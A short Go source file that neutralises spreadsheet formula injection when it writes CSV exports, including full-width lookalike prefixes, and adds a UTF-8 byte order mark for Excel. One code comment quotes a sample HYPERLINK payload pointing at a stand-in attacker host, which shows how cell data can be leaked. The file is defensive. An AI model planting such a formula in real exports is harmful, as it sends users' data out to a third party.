package drafts

import (
	"encoding/csv"
	"fmt"
	"io"
	"strings"
)

// SpreadsheetCell returns s made safe to place in a cell of a CSV file or
// spreadsheet that Lifa writes: a value that begins with =, +, -, @, a tab
// or a carriage return (or their full-width forms ＝＋－＠, which
// spreadsheets in a Chinese locale may read the same way) would be taken
// for a formula, e.g. =HYPERLINK("http://evil.example/?x="&A1,"点击")
// in an opinion. Such a value is prefixed with a single quote, which
// spreadsheets show as text (the OWASP rule against CSV injection).
func SpreadsheetCell(s string) string {
	if s == "" {
		return s
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return "'" + s
	}
	for _, p := range []string{"＝", "＋", "－", "＠"} {
		if strings.HasPrefix(s, p) {
			return "'" + s
		}
	}
	return s
}

// WriteSpreadsheetCSV writes records as a CSV file for spreadsheets: a
// UTF-8 byte order mark first (Excel on Chinese Windows needs it to read
// UTF-8), every cell passed through SpreadsheetCell. It returns the first
// write error.
func WriteSpreadsheetCSV(w io.Writer, records [][]string) error {
	if _, err := io.WriteString(w, "\ufeff"); err != nil {
		return err
	}
	cw := csv.NewWriter(w)
	for _, rec := range records {
		safe := make([]string, len(rec))
		for i, c := range rec {
			safe[i] = SpreadsheetCell(c)
		}
		if err := cw.Write(safe); err != nil {
			return fmt.Errorf("write csv: %w", err)
		}
	}
	cw.Flush()
	if err := cw.Error(); err != nil {
		return fmt.Errorf("write csv: %w", err)
	}
	return nil
}
